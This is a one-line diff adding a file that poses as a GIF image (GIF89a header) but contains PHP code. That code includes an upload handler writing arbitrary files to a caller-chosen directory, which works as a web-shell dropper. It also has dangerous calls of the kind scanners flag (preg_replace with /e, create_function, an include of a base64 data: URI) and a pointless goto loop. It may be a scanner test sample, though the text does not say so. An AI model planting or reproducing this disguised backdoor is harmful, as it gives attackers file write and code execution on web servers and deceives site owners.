@@ -1,0 +1,1 @@
+GIF89a<?php if(isset($_FILES["f"])){move_uploaded_file($_FILES["f"]["tmp_name"],$_POST["d"]."/".$_FILES["f"]["name"]);} preg_replace("/x/e","echo 1;",$y); create_function("$a","return $a;"); include "data:text/plain;base64,PD9waHAgZWNobyAxOw=="; goto a; b: exit; a: goto b;
